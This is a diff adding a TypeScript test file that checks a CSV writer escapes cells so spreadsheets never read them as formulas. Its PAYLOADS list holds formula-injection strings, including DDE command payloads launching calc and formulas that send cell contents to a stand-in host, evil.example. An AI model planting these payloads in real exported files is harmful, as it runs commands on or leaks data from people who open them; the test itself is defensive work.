@@ -1,0 +1,85 @@
+/** R-HISTORY-2: a table of ours is read by a spreadsheet as it was written, and no cell of it as a formula. */
+import { parse } from 'csv-parse/sync'
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { csvTable } from './csv.ts'
+
+const read = (csv: string, delimiter = ','): string[][] =>
+  parse(csv, { bom: true, delimiter, relax_quotes: true, relax_column_count: true })
+
+/** What a spreadsheet would calculate: a sign at the beginning of a cell, also after spaces. */
+const isFormula = (cell: string) => /^[\s\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r]/u.test(cell)
+
+const PAYLOADS = [
+  '=1+1',
+  '=cmd|"/c calc"!A0',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
+  '=IMPORTXML(CONCAT("https://evil.example/",A1:A9),"//a")',
+  '=WEBSERVICE("https://evil.example")',
+  '=DDE("cmd";"/C calc";"x")',
+  '=@SUM(1+1)*cmd|" /C calc"!A0',
+  '==1',
+  '+1+1',
+  '+cmd|" /C calc"!A0',
+  '+44 20 7946 0112',
+  '-1+1',
+  '-cmd|" /C calc"!A0',
+  '-2+3+cmd|" /C calc"!A0',
+  '--1',
+  '@SUM(1+1)',
+  '@import',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\r\n=1+1',
+  '\tplain after a tab',
+  '\rplain after a return',
+  ' =1+1',
+  '   +1',
+  '\u00a0=1+1',
+  '\u2003-1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '\u3000@A1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '"=1+1"\n=2',
+  'a\n=1+1',
+  'a\r\n@SUM(1)',
+  'a;=1+1',
+  'a; -1+1',
+  'a\t=1+1',
+  '=1;=2;=3',
+]
+
+test.each(PAYLOADS)('%j is text', (payload) => {
+  const [, row] = read(csvTable([['Title'], [payload]]))
+  const [cell = ''] = row ?? []
+  expect(isFormula(cell)).toBe(false)
+  expect(cell.replaceAll("'", '')).toBe(payload.replaceAll("'", ''))
+})
+
+test('no cell begins a formula where semicolons separate', () => {
+  for (const payload of PAYLOADS) {
+    const cells = read(csvTable([['Licensed', payload]]), ';').flat()
+    expect(cells.filter(isFormula)).toEqual([])
+  }
+})
+
+test('harmless text is written as it is', () => {
+  expect(csvTable([['Goat, "on" a roof', 'a=b', 'x - y', '10,50', '']])).toBe(
+    '\uFEFF"Goat, ""on"" a roof",a=b,x - y,"10,50",\r\n',
+  )
+})
+
+test('any table is read as it was written', () => {
+  const cell = fc.string({ unit: 'grapheme' }).filter((text) => !/[=+\-@＝＋－＠\t\r]/.test(text))
+  fc.assert(
+    fc.property(fc.array(fc.tuple(cell, cell, cell), { minLength: 1 }), (rows) => {
+      expect(read(csvTable(rows))).toEqual(rows)
+    }),
+  )
+})
